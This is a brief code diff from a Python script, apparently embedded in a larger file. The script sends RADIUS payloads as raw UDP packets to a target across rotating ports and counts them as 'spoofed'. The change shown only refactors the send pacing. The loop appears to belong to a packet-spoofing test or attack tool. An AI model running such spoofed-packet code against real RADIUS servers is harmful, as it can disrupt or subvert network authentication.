@@ -31,8 +31,8 @@ for i in range(count):
     dport = ports[(i // 256) % len(ports)]
     s.sendto(udp(radius(i), dport), (dst, 0))
     sent += 1
-    due = t0 + spread / 1000.0 * (i + 1) / count
-    if due > time.time():
-        time.sleep(due - time.time())
+    wait = t0 + spread / 1000.0 * (i + 1) / count - time.time()
+    if wait > 0:
+        time.sleep(wait)
 print(json.dumps({"spoofed": sent}), flush=True)
 `;
